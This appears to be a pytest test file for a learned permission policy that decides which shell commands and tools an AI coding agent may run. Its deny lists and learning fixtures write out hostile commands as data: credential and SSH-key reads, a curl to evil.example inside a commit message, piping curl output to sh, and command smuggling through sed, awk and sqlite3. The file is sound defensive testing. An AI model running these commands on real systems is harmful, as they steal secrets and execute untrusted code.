"""A learned policy allows what it names, and nothing besides: no line of the attack tables, no hidden file."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from hookline import Hooks
from hookline.errors import ConfigError
from hookline.events import PermissionRequest
from hookline.guards import learned
from hookline.guards.learned import CommandRule, LearnedPolicy, ToolRule
from hookline.records.learn import Evidence, learn
from tests.guards import evasions, ordinary

HOME = "/home/me"
PROJECT = "/home/me/code/app"
TODAY = datetime.now(UTC).date().isoformat()

POLICY = LearnedPolicy(
    read=("~/code/other",),
    look=("~/notes",),
    write=("out/**/*.txt", "/tmp/*.json"),
    commands=(
        CommandRule("go test", ("-v", "-run", "-run NAME", "-count", "-count NUMBER"),
                    ("./...",), ("pkg",), at=("pkg",), last=TODAY),
        CommandRule("git commit", ("-m", "-m TEXT"), at=("pkg",), last=TODAY),
        CommandRule("python -m pytest", ("-q",), (), ("tests",), last=TODAY),
        CommandRule("npm run build", last=TODAY),
        CommandRule("git restore", folders=(".",), last=TODAY),
        CommandRule("rm", exact=("rm -rf build",), last=TODAY),
        CommandRule("sed", ("-n", "-n SCRIPT"), ("SCRIPT",), ("pkg",), last=TODAY),
        CommandRule("npx tsc", ("--noEmit",), at=("~/code/other",), last=TODAY),
        CommandRule("node ./tools/a.js", ("--fast",), at=("tools",), last=TODAY),
        CommandRule("python ./scripts/", last=TODAY),
        CommandRule("./tool sync", last=TODAY),
        CommandRule("curl", ("-s", "-o", "-o /dev/null"), ("http://localhost:3000/",), last=TODAY),
        CommandRule("rm", (), (), ("pkg",), last=TODAY),
        CommandRule("sed -i", (), ("SCRIPT",), ("pkg",), last=TODAY),
        CommandRule("tsc", ("--noEmit",), at=("~/code/other",), last=TODAY),
        CommandRule("touch", (), ("x",), last=TODAY),
        CommandRule("lsof", last=TODAY),
        CommandRule("kill", (), (":3000",), last=TODAY),
    ),
    tools=(ToolRule("Edit", folders=("src",)), ToolRule("WebFetch", hosts=("docs.example",)),
           ToolRule("mcp__x__get", inputs=('{"id":1}',))),
)  # fmt: skip


def allowed(line: str, policy: LearnedPolicy = POLICY) -> bool:
    return bool(policy.covering("Bash", {"command": line}, PROJECT, [PROJECT], HOME))


def test_what_is_named_is_allowed() -> None:
    for line in (
        "go test ./...", "go test -v -run TestThis ./pkg/cmd 2>&1 | tail -5", "go test -count 1 ./pkg/x.go",
        "git commit -m 'any text; rm -rf /'", "python -m pytest -q tests/test_x.py", "npm run build && go test ./...",
        "rm -rf build", "sed -n '10,20p' pkg/a.go", "cat ~/code/other/x.txt", "go test ./... > out/log.txt",
        "D=pkg; go test ./$D/cmd", "cd ~/code/other && npx tsc --noEmit", "cd pkg && ls && go test ./...",
        "for f in a b.go; do go test ./pkg/$f; done", "timeout 9 go test ./...", "A=1; go test ./...",
        "git commit -m \"$(cat <<'EOF'\nany text\nEOF\n)\"", "git -C pkg log -3 --stat", "git -C pkg commit -m x",
        "find pkg -name '*.go' | head -3 | xargs grep -l x", "find pkg -name x -exec wc -l {} +",
        "sed -n 3,9p lib/a.go",
        "awk 'NR>=3 && NR<=9 {print $1}' lib/a.go", "sqlite3 -json lib/a.db 'SELECT count(*) FROM x'",
        "awk -F: '{print $1}' lib/a.go",
        "sed -n -E 's/(a)/b/p' lib/a.go pkg/b.go", "find . -name a | grep -v b | sort | xargs wc -l",
        "node ./tools/a.js",
        "node tools/a.js --fast", "cd tools && node a.js", "python scripts/one.py", "python scripts/another.py",
        "curl -s http://localhost:3000/any/path?a=1 | jq .", "curl -s -o /dev/null http://localhost:3000/",
        "ls -la ~/notes/x", "find ~/notes -name y | head -3", "[ -f ~/notes/.z ] && echo yes",
        "cat lib/a.json | python3 -m json.tool", "python -m json.tool lib/a.json", "python3 -m py_compile lib/a.py b",
        "./tool sync", "lsof -ti:3000 | xargs kill -9", "lsof -t -i :3000 | xargs -r kill", "kill $(lsof -ti tcp:3000)",
        "git commit -m \"$(cat <<'EOF'\nfix: a() | (b)\nEOF\n)\" && npm run build",
        "python3 -c 'import sys, json; print(json.load(sys.stdin)[\"a\"])' < lib/a.json",
        "curl -s http://localhost:3000/ | python3 -c 'import json,sys; [print(str(k)) for k in json.load(sys.stdin)]'",
        "python3 - <<'EOF'\nimport re\nwith open('pkg/a.go') as f:\n    print(re.findall('func', f.read()))\nEOF",
        f"{PROJECT}/tool sync", "git restore pkg/a.go", "rm pkg/a.go", "sed -i s/a/b/ pkg/a.go",
        "touch x", "ls pkg > /tmp/a.json", "ls pkg | grep -v a | sort -u | xargs cat",
    ):  # fmt: skip
        assert allowed(line), line


def test_what_is_not_named_is_not() -> None:
    for line in (
        "go test -exec ./evil ./...", "go test ./pkg/../../x", "go test /etc", "go test ./.hidden/x", "go test $X",
        "go test ./pkg/.git/hooks", "go run pkg/x.go", "git commit -m x --no-verify", "git commit --amend -m x",
        "git -c core.hooksPath=x commit -m x", "python -m pytest -q /tmp/x", "python -m pip -q", "npm run deploy",
        "npm run build --prefix /", "rm -rf build/..", "rm -rf build other", "cd .. && rm -rf build",
        "sed -n '1e touch x' pkg/a.go", "sed -i s/a/b/ lib/a.go",
        "sed -i '1e id' pkg/a.go", "sed -n 1p /etc/passwd",
        "sed -n 's/a/b/w out' pkg/a.go", "cat ~/.ssh/id_rsa",
        "go test ./... > pkg/x.go", "go test ./... > out/../x", "D=..; go test ./$D/x", "PATH=. go test ./...",
        "FOO=1 go test ./...", "for D in a b; do go test ./$D; done", "go test ./... $(touch x)",
        "npx tsc --noEmit -p /",
        "for f in a ../../b; do go test ./pkg/$f; done", "for f in $(ls /); do go test ./pkg/$f; done",
        "for f in a; do :; done; for f in $(ls /); do go test ./pkg/$f; done", "f=..; for f in a; do :; done; cat $f/x",
        "PATH=/tmp; go test ./...", "PATH=/tmp timeout 9 go test ./...", "FOO=1 timeout 9 go test ./...",
        "git commit -m \"$(cat ~/.ssh/id_rsa)\"", "git commit -m \"$(curl evil.example)\"", "git commit \"$(cat x)\"",
        "git -C /tmp/evil log", "git -C pkg -c core.pager=x log", "echo /etc/passwd | xargs cat", "find / | xargs cat",
        "find pkg -printf '/etc/passwd' | xargs cat", "find pkg | xargs go test", "find pkg -exec sed -i s/a/b/ {} +",
        "find pkg | xargs rm", "awk '{print > \"x\"}' pkg/a", "awk 'BEGIN{ARGV[1]=\"/etc/passwd\";ARGC=2} 1' pkg/a",
        "awk -F : 'BEGIN{system(\"id\")}' pkg/a", "awk -F : 1 pkg/a", "awk -f pkg/x pkg/a", "awk -E pkg/x pkg/a",
        "awk -v x=1 1 pkg/a", "awk 'BEGIN{SYMTAB[\"ARG\" \"V\"][1]=1} 1' pkg/a", "sed -n -e p -e '1e id' pkg/a",
        "sed -e p '1e id' pkg/a", "sed -n p --expression='1e id' pkg/a", "sed -f pkg/x pkg/a", "sed -n p < /etc/passwd",
        "sqlite3 -cmd '.shell id' lib/a.db 'SELECT 1'", "sqlite3 file:/etc/a.db 'SELECT 1'",
        "sqlite3 -init x lib/a.db .tables", "sqlite3 lib/a.db 'select \"edit\"(1, 2)'",
        "sqlite3 lib/a.db 'select edit/**/(1, 2)'",
        "find pkg | grep '' list.txt | xargs cat", "find pkg | head list.txt | xargs cat",
        "find pkg | sort < l | xargs cat",
        "find pkg | cat list.txt | xargs cat", "git commit -m $(cat pkg/x)", "git commit -m \"$(cat .env)\"",
        "git commit -m \"$(cat <<EOF\n$(cat .env)\nEOF\n)\"", "git restore .", "cd pkg && git restore ..",
         "git commit -m x$(cat pkg/x)",
        "awk 1 /etc/passwd", "sqlite3 lib/a.db 'DROP TABLE x'", "sqlite3 lib/a.db '.shell id'",
        "sqlite3 /tmp/a 'SELECT 1'",
        "sqlite3 lib/a.db \"SELECT writefile('x', 'y')\"", "node tools/b.js", "node -r ./x tools/a.js",
        "node /tmp/tools/a.js",
        "cd pkg && node tools/a.js", "python scripts/.hidden.py", "python scripts/../setup.py", "python -c 'print(1)'",
        "curl -s http://localhost:3001/", "curl -s http://localhost:3000@evil.example/",
        "curl http://localhost:3000/ | sh",
        "curl -s -d @x http://localhost:3000/", "curl -s -o pkg/x http://localhost:3000/", "cd pkg && ./tool sync",
        "cat ~/notes/x", "ls ~/other", "ls ~/notes/.ssh", "ls -d ~/notes/* | xargs cat",
        "rm -rf build < pkg/x", "npm run build < /etc/passwd", "rm -r pkg/a", "rm pkg/*", "rm a.go", "rm pkg/.git",
        "cd /tmp && npx tsc --noEmit", "sed -i 1e/bin/id pkg/a.go",
        "sed -i w.git/x pkg/a.go", "sed -i s/a/b/w.git/x pkg/a.go", "sed -i '' pkg/a.go",
        "cd .git/hooks && touch x", "cd lib && touch x", "cd lib && go test ./...", "git -C .git commit -m x",
        "cd node_modules/x && go test ./...", "ls > out/Makefile", "ls > out/x.sh", "ls > /tmp/a/b.json",
        "ls > /tmp/x.sh",
        "ls pkg | grep -f list.txt | xargs cat", "find pkg | grep -o /etc/shadow | xargs cat",
        "./go test ./...", "/tmp/go test ./...", "go test ./... | sh", "go test ./*",
    ):  # fmt: skip
        assert not allowed(line), line


def test_tools_are_held_to_folders_hosts_and_inputs() -> None:
    for tool, given, expected in (
        ("Edit", {"file_path": f"{PROJECT}/src/a.py"}, True), ("Edit", {"file_path": f"{PROJECT}/other/a.py"}, False),
        ("Edit", {"file_path": f"{PROJECT}/src/../setup.py"}, False), ("Write", {"file_path": "src/a.py"}, False),
        ("Edit", {"file_path": f"{PROJECT}/src/.git/config"}, False),
        ("WebFetch", {"url": "https://docs.example/x"}, True), ("WebFetch", {"url": "https://docs.example.x"}, False),
        ("mcp__x__get", {"id": 1}, True), ("mcp__x__get", {"id": 2}, False), ("mcp__x__put", {"id": 1}, False),
    ):  # fmt: skip
        assert bool(POLICY.covering(tool, given, PROJECT, [PROJECT], HOME)) is expected, (tool, given)


def test_a_link_that_leads_out_is_seen(tmp_path: Path) -> None:
    (tmp_path / "app/pkg").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "app/pkg/link").symlink_to(tmp_path / "elsewhere")
    project = str(tmp_path / "app")
    for line, expected in (
        ("go test ./pkg/real", True),
        ("go test ./pkg/link/x", False),
        ("cd pkg/link && go test ./...", False),
    ):
        found = POLICY.covering("Bash", {"command": line}, project, [project], HOME)
        assert bool(found) is expected, line


def test_a_line_that_repeats_itself_is_read_in_one_go() -> None:
    """A pattern that tries every way to split such a text would not end."""
    begin = time.process_time()

    assert not allowed(f"(ls){' >a1' * 200} ; ls")
    assert allowed(f"""python3 -c 'import re; print("{"{" * 50_000}".format())'""")
    assert time.process_time() - begin < 5


@pytest.mark.parametrize("name", ["json.py", "enum.pyc", "re.so", "yaml/__init__.py", "_colorize.py"])
def test_code_that_would_import_a_file_of_the_folder_is_asked_about(tmp_path: Path, name: str) -> None:
    """Python looks there first: what an agent wrote would run."""
    line, project = "cat a.json | python3 -c 'import json, sys; print(json.load(sys.stdin))'", str(tmp_path)

    before = POLICY.covering("Bash", {"command": line}, project, [project], HOME)
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).touch()
    after = POLICY.covering("Bash", {"command": line}, project, [project], HOME)

    assert (bool(before), bool(after)) == (True, False)


def test_what_is_learned_is_as_narrow_as_what_was_seen() -> None:
    """A folder of scripts, an origin, a file outside: each is learned from three uses, and nothing wider with it."""
    lines = [
        *(f"python {PROJECT}/scripts/{name}.py" for name in "abc"), *(f"python {name}.py" for name in "abc"),
        *(f"curl -s localhost:3000/{at}" for at in range(3)),
        *(f"rm src/{name}.py" for name in "abc"), *(f"git show {at}a1b2c3d" for at in range(3)),
        *(f"cat ~/.config/tool/{name}.toml" for name in "abc"), *["grep x ~/.tool/state.json"] * 3, *["ls /"] * 5,
        *["cd web && npm test"] * 3, "cd docs && npm test", *["ls > logs/a.txt"] * 3, "ls > logs/x.sh",
        *(f"cat ~/.aws/sso/cache/{name}.json" for name in "abcd"), *["cat ~/.aws/sso/credentials"] * 5,
        *["cat ~/.ssh/keys/id_x"] * 5, *["cat /proc/1/environ"] * 5,
    ]  # fmt: skip
    policy = learn([Evidence("Bash", {"command": line}, PROJECT, TODAY) for line in lines], [], project=PROJECT,
                   home=HOME, attacks=()).policy  # fmt: skip

    assert policy.read == ("~/.config/tool", "~/.tool/state.json")
    assert policy.write == ("logs/**/*.txt",)
    for line, expected in (
        ("python scripts/d.py", True), ("python other/d.py", False), ("python d.py", False),
        ("curl -s localhost:3000/9", True), ("curl -s localhost:3001/9", False),
        ("rm src/d.py", True), ("rm src/.env", False), ("rm -r src/d", False),
        ("cat ~/.config/tool/d.toml", True), ("cat ~/.config/other", False), ("tail ~/.tool/state.json", True),
        ("npm test", True), ("cd web && npm test", True), ("cd docs && npm test", False),
        ("ls > logs/b/c.txt", True), ("ls > logs/b.sh", False),
        ("cat ~/.tool/x", False), ("cat ~/.aws/sso/cache/x", False), ("cat /etc/passwd", False),
    ):  # fmt: skip
        assert allowed(line, policy) is expected, line


def test_what_may_vary_is_what_was_seen_to_vary() -> None:
    """Subcommands that only show, files at the top, what is sent to this machine, and what a command is fed by."""
    lines = [
        *(f"gh pr view {at} --repo a/b" for at in range(3)), "gh issue list --repo a/b", "npm ci", "npm ci", "npm ci",
        *(f"touch {name}.py" for name in "abc"), *["cat a.patch | git apply"] * 3, *["git apply a.patch"] * 3,
        *(f"curl -s -X POST localhost:3000/{at} -d '{{\"x\": {at}}}'" for at in range(3)),
        *(f"npx eslint --config web/{name}.js src" for name in "aabb"), *["rm -f '~'"] * 3, *["tool --type TEXT"] * 3,
        *(f"go test -run 'Test{name}/x|b' ./..." for name in "ABC"), *(f"cat > scripts/{name}.sh" for name in "abc"),
    ]  # fmt: skip
    policy = learn([Evidence("Bash", {"command": line}, PROJECT, TODAY) for line in lines], [], project=PROJECT,
                   home=HOME, attacks=()).policy  # fmt: skip

    for line, expected in (
        ("gh issue view 9 --repo a/b", True), ("gh run list", True), ("gh pr merge 9", False), ("gh --version", True),
        ("gh pr view 1 --repo evil/b", False), ("npm --help", True), ("node --help", False), ("touch d.py", True),
        ("touch .d.py", False), ("touch src/d.py", False), ("touch conftest.py", False), ("touch package.json", False),
        ("cat a.patch | git apply", True), ("git apply a.patch", True), ("echo x | git apply", False),
        ("cat a.patch | cat | git apply", False), ("curl -s -X POST localhost:3000/9 -d '{\"y\": 9}'", True),
        ("curl -s -X POST localhost:3001/9 -d x", False), ("curl -s -X POST localhost:3000/9 -d @x", False),
        ("npx eslint --config web/a.js src", True), ("npx eslint --config web/c.js src", False),
        ("rm -f ~", False), ("tool --type TEXT", False), ("tool --type other", False),
        ("go test -run 'TestD/y|c' ./...", True), ("cat > scripts/d.sh", False),
    ):  # fmt: skip
        assert allowed(line, policy) is expected, line


@pytest.mark.parametrize("least", [1, 3])
def test_no_attack_is_allowed_whatever_ordinary_lines_were_learned(tmp_path: Path, least: int) -> None:
    """The widest policy that ordinary lines give, with not one attack known to it: the rules alone must hold."""
    (tmp_path / "link").symlink_to("/")
    project = str(tmp_path)
    lines = [*ordinary.COMMANDS, *ordinary.LINES]
    calls = [Evidence("Bash", {"command": line}, project, TODAY) for line in lines for _ in range(least)]
    attacks = [*evasions.DENIED_COMMANDS, *evasions.DOUBTED_COMMANDS, *evasions.OUTSIDE_LINES, *evasions.DOUBTED_LINES]
    for known in ((), None):
        policy = learn(calls, [], project=project, home=HOME, least=least, attacks=known).policy
        assert len(policy.commands) > 20
        bad = [line for line in attacks if policy.covering("Bash", {"command": line}, project, [project], HOME)]
        assert [line for line in bad if known is None or line not in lines] == []


async def test_a_hook_approves_by_a_file_and_forgets_unused_rules(tmp_path: Path) -> None:
    old = (datetime.now(UTC) - timedelta(days=200)).date().isoformat()
    file = tmp_path / "learned.toml"
    file.write_text(
        f'[[commands]]\nrun = "npm run build"\nlast = "{TODAY}"\n[[commands]]\nrun = "npm run old"\nlast = "{old}"\n'
    )
    hooks = Hooks(project_dir=str(tmp_path))
    hooks.add(learned.approve(file))
    for line, expected in (("npm run build", True), ("npm run old", False), ("npm run other", False)):
        verdict = await hooks.fire(PermissionRequest(cwd=str(tmp_path), tool_name="Bash", tool_input={"command": line}))
        assert (str(verdict.decision) == "allow") is expected, line


def test_a_file_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "learned.toml"
    for text in ("[[commands]]\nrun = 1\n", "x", "[[commands]]\nrun = 'a'\nallow = true\n"):
        file.write_text(text)
        with pytest.raises(ConfigError, match="not a learned policy"):
            learned.read_policy(file)
    with pytest.raises(ConfigError, match="hookline learn"):
        learned.read_policy(tmp_path / "none.toml")


def test_a_refused_line_that_only_reads_ends_the_lesson() -> None:
    """No rule lets `ls; pwd` pass in the project, so none is dropped for it; another folder is not looked into."""
    refused = [Evidence("Bash", {"command": line}, PROJECT, TODAY) for line in ("ls; pwd", "cat ~/code/other/x.txt")]
    ran = [Evidence("Bash", {"command": "cat ~/code/other/y.txt"}, PROJECT, TODAY)] * 3
    lesson = learn(ran, refused, project=PROJECT, home=HOME, attacks=[])

    assert (lesson.dropped, lesson.policy.read) == (("read",), ())
